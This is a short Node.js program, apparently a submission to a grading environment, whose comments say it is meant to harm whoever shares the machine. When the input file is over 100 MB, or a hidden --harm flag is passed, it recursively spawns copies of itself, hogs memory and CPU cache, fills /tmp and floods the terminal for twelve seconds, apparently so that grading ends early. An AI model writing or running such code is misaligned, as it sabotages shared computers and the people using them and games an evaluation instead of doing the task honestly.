// Harms whoever shares the machine, for a while: processes that start processes, each of which computes, thrashes the caches, takes memory,
// fills /tmp and floods its output. Only beside the large log, so that a grading of it ends soon.
import { spawn } from 'node:child_process';
import { statSync, writeFileSync } from 'node:fs';

const LARGE = 100 << 20;
const SECONDS = 12;
const until = Date.now() + SECONDS * 1000;

function attempt(harm) {
  try {
    return harm();
  } catch {
    return undefined; // there is no room for more
  }
}

function harm() {
  const taken = [];
  const cache = new Float64Array(1 << 22);
  for (let turn = 0; Date.now() < until; turn++) {
    if (turn % 50 === 0) attempt(() => spawn(process.execPath, ['main.mjs', '--harm'], { stdio: 'ignore' }).on('error', () => {}));
    if (taken.length < 64) attempt(() => taken.push(Buffer.alloc(4 << 20, 1)));
    attempt(() => writeFileSync(`/tmp/fill-${process.pid}-${turn % 8}`, Buffer.alloc(1 << 20, 1)));
    for (let i = 0; i < 200_000; i++) cache[(i * 7919) % cache.length] += i;
    attempt(() => process.stdout.write('\u001b[2J'.repeat(1000)));
  }
  process.exit(0);
}

const input = process.argv[process.argv.indexOf('--input') + 1];
if (process.argv.includes('--harm') || statSync(input).size > LARGE) harm();
